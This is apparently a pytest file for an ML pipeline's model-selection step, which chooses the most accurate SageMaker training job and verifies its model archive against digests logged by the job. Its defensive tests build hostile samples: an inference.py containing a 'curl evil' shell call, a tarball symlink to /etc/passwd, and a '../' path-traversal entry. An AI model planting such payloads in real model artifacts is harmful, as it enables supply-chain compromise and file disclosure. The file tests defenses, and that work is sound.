"""Selection judges each job by its FinalMetricDataList (metrics.json when SageMaker left the metric out)."""

import contextlib
import hashlib
import io
import json
import tarfile
import time

import boto3
import pytest

from tasks.archives import MAX_MEMBERS, ArchiveError, members
from tasks.config import load_config
from tasks.selection import TRAINING_LOG_GROUP, SelectionError, best_of, most_accurate, output_metrics, trial
from training.contract import MODEL_FILES_LINE

MODEL_FILES = {
    "model.pth": b"weights of job b",
    "model_config.json": b"{}",
    "code/inference.py": b"def model_fn(): ...",
}


def description(name: str, hidden_channels: int, accuracy: float | None, bucket: str = "b") -> dict:
    final = [{"MetricName": "train:loss", "Value": 0.3}]
    if accuracy is not None:
        final.append({"MetricName": "test:accuracy", "Value": accuracy})
    return {
        "TrainingJobName": name,
        "HyperParameters": {"hidden_channels": str(hidden_channels), "epochs": "2"},
        "ModelArtifacts": {"S3ModelArtifacts": f"s3://{bucket}/jobs/{name}/output/model.tar.gz"},
        "FinalMetricDataList": final,
        "TrainingTimeInSeconds": 30,
    }


def tarball(files: dict[str, bytes], links: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, body in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            archive.addfile(info)
    return buffer.getvalue()


def put_output(s3, bucket: str, name: str, metrics: dict, member: str = "metrics.json") -> None:
    body = tarball({member: json.dumps(metrics).encode()})
    s3.put_object(Bucket=bucket, Key=f"jobs/{name}/output/output.tar.gz", Body=body)


def log_model_files(local_aws: str, job: str, files: dict[str, bytes]) -> None:
    """The line the training script logs at its end, in the job's stream as SageMaker writes it."""
    logs = boto3.client("logs", endpoint_url=local_aws)
    with contextlib.suppress(logs.exceptions.ResourceAlreadyExistsException):
        logs.create_log_group(logGroupName=TRAINING_LOG_GROUP)
    stream = f"{job}/algo-1-{int(time.time())}"
    logs.create_log_stream(logGroupName=TRAINING_LOG_GROUP, logStreamName=stream)
    digests = {name: hashlib.sha256(body).hexdigest() for name, body in files.items()}
    logs.put_log_events(
        logGroupName=TRAINING_LOG_GROUP,
        logStreamName=stream,
        logEvents=[
            {"timestamp": int(time.time() * 1000), "message": "Test Epoch: 2, Test Accuracy: 97.00%"},
            {
                "timestamp": int(time.time() * 1000),
                "message": f"2026-12-07 10:00:00 {MODEL_FILES_LINE}{json.dumps(digests)}",
            },
        ],
    )


def test_highest_accuracy_wins_and_ties_go_to_fewer_parameters():
    rows = [
        {"hidden_channels": 32, "test_accuracy": 0.97, "parameters": 30000, "model_data_url": "s3://b/32"},
        {"hidden_channels": 10, "test_accuracy": 0.97, "parameters": 21000, "model_data_url": "s3://b/10"},
        {"hidden_channels": 5, "test_accuracy": 0.96, "parameters": 18000, "model_data_url": "s3://b/5"},
    ]
    assert best_of(rows)["hidden_channels"] == 10
    rows[0]["test_accuracy"] = 0.9701
    assert best_of(rows)["hidden_channels"] == 32
    unknown = [
        {"hidden_channels": 8, "test_accuracy": 0.9, "parameters": None, "model_data_url": "s3://b/8"},
        {"hidden_channels": 4, "test_accuracy": 0.9, "parameters": None, "model_data_url": "s3://b/4"},
    ]
    assert best_of(unknown)["hidden_channels"] == 4
    # A tuner's job it stopped early reports an objective but left no model: never the one served.
    stopped = {"hidden_channels": 64, "test_accuracy": 0.99, "parameters": None, "model_data_url": None}
    assert best_of([*rows, stopped])["hidden_channels"] == 32
    with pytest.raises(SelectionError, match="no training job completed with a model"):
        best_of([stopped])
    with pytest.raises(SelectionError, match="no training job"):
        best_of([])


METRICS = {"test_accuracy": 0.9, "parameters": 99, "history": [{"test_accuracy": 0.8}, {"test_accuracy": 0.9}]}


def test_final_metric_is_percent():
    row = trial(description("j", 4, 97.14), METRICS)
    assert (row["test_accuracy"], row["parameters"], row["accuracy_min"]) == (0.9714, 99, 0.8)


def test_metrics_json_fills_in():
    assert trial(description("j", 4, None), METRICS)["test_accuracy"] == 0.9
    with pytest.raises(SelectionError, match=r"training job j reported no test:accuracy .* has train:loss\)"):
        trial(description("j", 4, None), None)


def test_select_best_reads_each_jobs_output_from_s3(local_aws, tmp_path):
    config = load_config(bucket="selection", state_dir=str(tmp_path))
    s3 = boto3.client("s3", endpoint_url=local_aws)
    s3.create_bucket(Bucket="selection")
    put_output(s3, "selection", "a", {"test_accuracy": 0.95, "parameters": 500}, member="./metrics.json")
    put_output(s3, "selection", "b", {"test_accuracy": 0.97, "parameters": 900})
    s3.put_object(Bucket="selection", Key="jobs/b/output/model.tar.gz", Body=tarball(MODEL_FILES))
    log_model_files(local_aws, "b", MODEL_FILES)
    trainings = [
        {"Training": description(name, hc, acc, "selection")}
        for name, hc, acc in (("b", 8, 97.0), ("a", 4, 95.0), ("c", 2, 97.0))
    ]
    assert output_metrics(trainings[2]["Training"], config) is None  # c left no output.tar.gz
    best = most_accurate(trainings, config=config)
    # b and c tie at 97%: b's parameter count is known (900), c's is not.
    assert (best["training_job_name"], best["hidden_channels"], best["test_accuracy"]) == ("b", 8, 0.97)
    # Its model goes on under the address of its SHA-256, copied from where the job left it.
    model = s3.get_object(Bucket="selection", Key="jobs/b/output/model.tar.gz")["Body"].read()
    assert (
        best["model_data_url"] == f"s3://selection/mnist-sweep/models/{hashlib.sha256(model).hexdigest()}/model.tar.gz"
    )
    assert best["training_model_data_url"] == "s3://selection/jobs/b/output/model.tar.gz"
    assert s3.get_object(Bucket="selection", Key=best["model_data_url"].split("/", 3)[3])["Body"].read() == model
    assert [row["hidden_channels"] for row in best["trials"]] == [2, 4, 8]
    json.dumps(best)  # fit for XCom


def test_a_model_the_job_did_not_make_fails_selection_by_name(local_aws, tmp_path):
    """Whoever could write where a job leaves its model.tar.gz: selection publishes only the files the job's own log
    names, and refuses the rest naming the job and the object; nothing is published."""
    config = load_config(bucket="selection-planted", state_dir=str(tmp_path))
    s3 = boto3.client("s3", endpoint_url=local_aws)
    s3.create_bucket(Bucket=config.bucket)
    trainings = [{"Training": description("planted", 8, 97.0, config.bucket)}]
    key = "jobs/planted/output/model.tar.gz"
    planted = {**MODEL_FILES, "code/inference.py": b"import os; os.system('curl evil')"}
    s3.put_object(Bucket=config.bucket, Key=key, Body=tarball(planted))
    with pytest.raises(SelectionError, match=r"training job planted: its log names no model files"):
        most_accurate(trainings, config=config)
    log_model_files(local_aws, "planted", MODEL_FILES)
    with pytest.raises(
        SelectionError,
        match=rf"s3://{config.bucket}/{key} does not hold the files training job "
        r"planted made .*these differ: code/inference.py",
    ):
        most_accurate(trainings, config=config)
    s3.put_object(Bucket=config.bucket, Key=key, Body=tarball({**MODEL_FILES, "extra.py": b"x"}))
    with pytest.raises(SelectionError, match=r"these differ: extra\.py"):
        most_accurate(trainings, config=config)
    assert "Contents" not in s3.list_objects_v2(Bucket=config.bucket, Prefix="mnist-sweep/models/")
    s3.put_object(Bucket=config.bucket, Key=key, Body=tarball(MODEL_FILES))
    assert most_accurate(trainings, config=config)["model_data_url"].startswith(
        f"s3://{config.bucket}/mnist-sweep/models/"
    )


def test_archives_are_read_within_caps_and_without_links():
    assert members(tarball({"./metrics.json": b"{}", "a/b.txt": b"x"}), "ok") == {
        "metrics.json": b"{}",
        "a/b.txt": b"x",
    }
    for body, reason in (
        (tarball({"model.pth": b"x"}, links={"code/inference.py": "/etc/passwd"}), "is not a regular file"),
        (tarball({"../escape.py": b"x"}), "is not a regular file inside the archive"),
        (tarball({"a": b"1", "./a": b"2"}), "holds a twice"),
        (tarball({f"f{i}": b"" for i in range(MAX_MEMBERS + 1)}), f"more than {MAX_MEMBERS} members"),
        (b"not a tarball", "not a tar.gz archive that can be read"),
    ):
        with pytest.raises(ArchiveError, match=reason):
            members(body, "s3://b/k")
